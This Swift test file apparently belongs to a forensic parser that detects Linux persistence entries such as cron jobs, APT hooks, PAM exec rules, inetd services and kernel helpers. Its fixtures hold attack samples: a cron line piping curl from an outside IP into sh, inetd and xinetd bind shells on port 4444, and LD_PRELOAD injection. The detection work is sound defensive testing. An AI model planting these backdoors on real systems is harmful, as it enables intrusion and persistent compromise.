import Bytes
import Evidence
import Testing

@testable import LogParse

/// Files by which something runs again by itself, each with what lies beside it and runs nothing.
@Suite struct PersistenceFileTests {
  private func entries(_ text: String, _ path: String, _ format: String) throws -> [(command: String?, when: String?)] {
    let dump = try EventDump(text, path: path)
    #expect(dump.format == format, "\(path)")
    return dump.events.filter { $0.dataType == "linux:persistence:entry" }
      .map { ($0.text("command"), $0.text("schedule")) }
  }

  private func name(_ text: String, _ path: String) -> String? {
    EventDump.recognize(Array(text.utf8), path: path)?.name
  }

  @Test func pathUnitsWatch() throws {
    let dump = try EventDump(
      "[Path]\nPathExistsGlob=/tmp/*.x\nDirectoryNotEmpty=/srv\n", path: "etc/systemd/system/a.path")
    #expect(dump.format == "linux.systemd_unit" && dump.events.first?.text("command") == "a.service")
    #expect(dump.events.first?["watches"] == .texts(["/tmp/*.x", "/srv"]))
    #expect(name("[Path]\nroot=/srv\n", "etc/app.conf") == nil)
    #expect(name("[Other]\nPathExists=/srv\n", "a.path") == nil)
  }

  @Test func inittab() throws {
    let found = try entries(
      "# comment\nid:3:initdefault:\n::sysinit:/sbin/openrc sysinit\n::respawn:/tmp/x\n1:2345:respawn:-/sbin/getty tty1\n",
      "etc/inittab", "linux.inittab")
    #expect(found.map(\.command) == ["/sbin/openrc sysinit", "/tmp/x", "/sbin/getty tty1"])
    #expect(found.map(\.when) == ["at boot", "at boot, and again as it ends", "at boot, and again as it ends"])
    #expect(name("root:x:0:0\n", "etc/inittab") != "linux.inittab")
  }

  @Test func upstart() throws {
    let found = try entries(
      "description \"x\"\nstart on runlevel [2345]\nrespawn\npre-start script\n  # a\n  mkdir /tmp/.x\n  id\nend script\n"
        + "exec /tmp/x -f\n", "etc/init/evil.conf", "linux.upstart")
    #expect(found.map(\.command) == ["mkdir /tmp/.x; id", "/tmp/x -f"])
    #expect(found.allSatisfy { $0.when == "at the event runlevel [2345]" })
    // A script that never ends is told all the same.
    #expect(try entries("script\nid\n", "etc/init/a.conf", "linux.upstart").map(\.command) == ["id"])
    #expect(name("key = value\n", "etc/init/a.conf") == nil)
  }

  @Test func logrotate() throws {
    let found = try entries(
      "/var/log/x {\n daily\n postrotate\n  # a\n  /tmp/x\n  true\n endscript\n}\n/var/log/y {\n weekly\n}\n",
      "etc/logrotate.d/x", "linux.logrotate")
    #expect(found.map(\.command) == ["/tmp/x; true"] && found.map(\.when) == ["postrotate of /var/log/x"])
  }

  @Test func packageHooks() throws {
    let found = try entries(
      "// Pre-Invoke {\"no\";};\n/* \"no\" */ APT::Update::Pre-Invoke {\"/tmp/x\"; \"echo \\\"a\\\"\";};\n"
        + "DPkg {\n  Post-Invoke\n  { \"/tmp/z\"; };\n  Options { \"--force-confold\"; };\n};\n"
        + "APT::Periodic::Enable \"1\";\nDPkg::Pre-Install-Pkgs:: \"/tmp/q\";\n", "etc/apt/apt.conf.d/99x",
      "linux.apt_hooks")
    #expect(found.map(\.command) == ["/tmp/x", "echo \"a\"", "/tmp/z", "/tmp/q"])
    #expect(
      found.map(\.when).prefix(3) == [
        "at APT::Update::Pre-Invoke", "at APT::Update::Pre-Invoke", "at DPkg::Post-Invoke",
      ])
    let deep = String(repeating: "a {", count: 1000) + "\n\"x\n" + String(repeating: "}", count: 2000)
    #expect(try entries(deep, "etc/apt/apt.conf.d/99x", "linux.apt_hooks").isEmpty)
  }

  @Test func autostart() throws {
    let text = "[Desktop Entry]\nType=Application\nName=A\nExec=/tmp/x\n[Desktop Action b]\nExec=/tmp/y\n"
    let dump = try EventDump(text, path: "home/ops/.config/autostart/x.desktop")
    #expect(dump.format == "linux.autostart" && dump.events.map { $0.text("command") } == ["/tmp/x"])
    #expect(
      dump.events.first?.text("user") == "ops" && dump.events.first?.text("schedule") == "as a desktop session starts")
    #expect(name(text, "usr/share/applications/x.desktop") == nil)
  }

  @Test func sshsOwnCommands() throws {
    let found = try entries(
      "Host *\n  ProxyCommand /tmp/x %h\n  User ops\n# LocalCommand /no\nHost a\n  LocalCommand=/tmp/y\n  ProxyCommand none\n"
        + "Match host b exec \"/tmp/z -q\"\n", "home/ops/.ssh/config", "linux.ssh_config")
    #expect(found.map(\.command) == ["/tmp/x %h", "/tmp/y", "/tmp/z -q"])
    #expect(found.first?.when == "as ssh connects to any host" && found[1].when == "as ssh connects to a")
    #expect(name("Host *\n  ProxyCommand /tmp/x %h\n", "home/ops/config") == nil)
  }

  @Test func scriptsThatAreKnownByTheirPlace() throws {
    let rc = try EventDump("/tmp/x\n", path: "home/ops/.ssh/rc")
    #expect(rc.format == "linux.startup_script" && rc.events.first?.text("mechanism") == "ssh-rc")
    #expect(rc.events.first?.text("user") == "ops" && rc.events.first?.text("command") == "/home/ops/.ssh/rc")
    #expect(try entries("#!/bin/sh\nid\n", "etc/systemd/system-generators/gen", "linux.startup_script").count == 1)
    #expect(name("/tmp/x\n", "home/ops/rc") == "capture.paths")
  }

  @Test func foldersOfTheLoader() throws {
    let dump = try EventDump("# a\ninclude /etc/ld.so.conf.d/*.conf\n/tmp/lib\n", path: "etc/ld.so.conf")
    #expect(dump.format == "linux.ld_conf" && dump.events.map { $0.text("path") } == ["/tmp/lib"])
    #expect(dump.events.map(\.dataType) == ["linux:loader:folder"])
  }

  /// What Redis leaves where it was made to write its database among crontabs.
  @Test func aJobAmongBytesOfAnotherKind() throws {
    var bytes = Array("REDIS0009".utf8) + [0xFA, 9] + Array("redis-ver".utf8) + [5] + Array("5.0.7".utf8)
    bytes +=
      [0xFE, 0, 0, 1, 0x78, 0x40, 0x50] + Array("\n\n*/1 * * * * curl http://203.0.113.9/x | sh\n\n".utf8) + [
        0xFF, 0, 1, 2,
      ]
    let dump = try EventDump(bytes, path: "var/spool/cron/root")
    #expect(dump.format == "linux.crontab")
    #expect(dump.events.map { $0.text("command") } == ["curl http://203.0.113.9/x | sh"])
    #expect(dump.events.first?.text("user") == "root" && HostileInputTests.isWhole(dump, bytes.count))
    #expect(EventDump.recognize([0xFE, 0, 0, 1, 0x0A, 0, 0xFF], path: "var/spool/cron/root")?.name != "linux.crontab")
    #expect(EventDump.recognize(bytes, path: "var/lib/redis/dump.rdb") == nil)
  }

  @Test func whatServicesAreStartedWith() throws {
    let text = """
      # comment
      JAVA_HOME=/usr/lib/jvm/java-17
      export CATALINA_OPTS="$CATALINA_OPTS \\
        -javaagent:/opt/x.jar"
      LD_PRELOAD=/opt/x.so
      JAVA_OPTS+=" -Xmx512m"
      if [ -x /opt/y ]; then
      . /opt/y
      fi

      """
    for path in ["opt/tomcat/bin/setenv.sh", "etc/sysconfig/tomcat", "etc/default/tomcat9", "etc/tomcat/tomcat.conf"] {
      let found = try entries(text, path, "linux.service_environment")
      #expect(
        found.map(\.command) == [
          "export CATALINA_OPTS=\"$CATALINA_OPTS -javaagent:/opt/x.jar\"", "LD_PRELOAD=/opt/x.so", ". /opt/y",
        ], "\(path)")
    }
    let dump = try EventDump(text, path: "etc/default/tomcat9")
    #expect(dump.events.first?.text("name") == "JAVA_HOME" && dump.events.first?.text("service") == "tomcat9")
    #expect(dump.events.count == 7 && HostileInputTests.isWhole(dump, text.utf8.count))
    for path in ["srv/default/tomcat9", "home/ops/setenv.sh", "etc/default/x/y", "etc/app/tomcat.conf"] {
      #expect(name(text, path) != "linux.service_environment", "\(path)")
    }
    #expect(try entries("PATH=/x\n", "etc/zsh/zprofile", "linux.shell_startup").count == 1)
    #expect(try entries("LD_PRELOAD=/x.so\n", "etc/environment.d/9.conf", "linux.shell_startup").count == 1)
    #expect(name("LD_PRELOAD=/x.so\n", "srv/environment.d/readme") == nil)
  }

  @Test func aRuleOfPAMThatGoesOn() throws {
    let text = "auth required pam_exec.so \\\n  quiet /tmp/.log.sh\n# x\nsession optional pam_x.so \\"
    let dump = try EventDump(text, path: "etc/pam.d/sshd")
    #expect(dump.events.map { $0.text("command") } == ["pam_exec.so quiet /tmp/.log.sh", "pam_x.so"])
    #expect(dump.events.map { $0.text("program") } == ["/tmp/.log.sh", nil])
    #expect(dump.events.first?.locator.length == 48 && dump.coverages.map(\.state) == [.parsed])
  }

  @Test func doorsOfInetd() throws {
    let text =
      "# x\n4444 stream tcp nowait root.wheel /bin/bash bash -i\nident stream tcp wait identd /usr/sbin/identd\nnone\n"
    let dump = try EventDump(text, path: "etc/inetd.conf")
    #expect(
      dump.format == "linux.inetd" && dump.events.map { $0.text("command") } == ["/bin/bash -i", "/usr/sbin/identd"])
    #expect(dump.events.map { $0.text("user") } == ["root", "identd"])
    #expect(dump.events.first?.text("schedule") == "on a connection to 4444/tcp")
    #expect(dump.coverages.map(\.state) == [.parsed, .skipped])
    let block =
      "service door\n{\n port = 4444\n server = /bin/sh\n server_args = -i\n}\nservice off\n{\n server=/bin/a\n disable = yes\n}\nservice cut\n{\n server = /bin/b\n"
    let blocks = try EventDump(block, path: "etc/xinetd.d/door")
    #expect(blocks.events.map { $0.text("command") } == ["/bin/sh -i", "/bin/a", "/bin/b"])
    #expect(blocks.events.map { $0["is_disabled"] } == [nil, .flag(true), nil])
    #expect(blocks.events.first?.text("schedule") == "on a connection to door (port 4444)")
    #expect(EventDump.recognize(Array("a note\n".utf8), path: "etc/xinetd.d/README") == nil)
  }

  @Test func programsThatTheKernelRuns() throws {
    let text =
      "net.ipv4.ip_forward = 1\nkernel.core_pattern=|/tmp/x %p\n-kernel/modprobe = /tmp/y\nkernel.core_pattern = core.%p\nodd\n"
    let dump = try EventDump(text, path: "etc/sysctl.d/9.conf")
    #expect(dump.format == "linux.kernel_helpers" && dump.events.map { $0.text("command") } == ["/tmp/x %p", "/tmp/y"])
    #expect(dump.events.map { $0.text("mechanism") } == ["kernel-helper", "kernel-helper"])
    #expect(dump.coverages.map(\.state) == [.parsed, .skipped])
  }
}
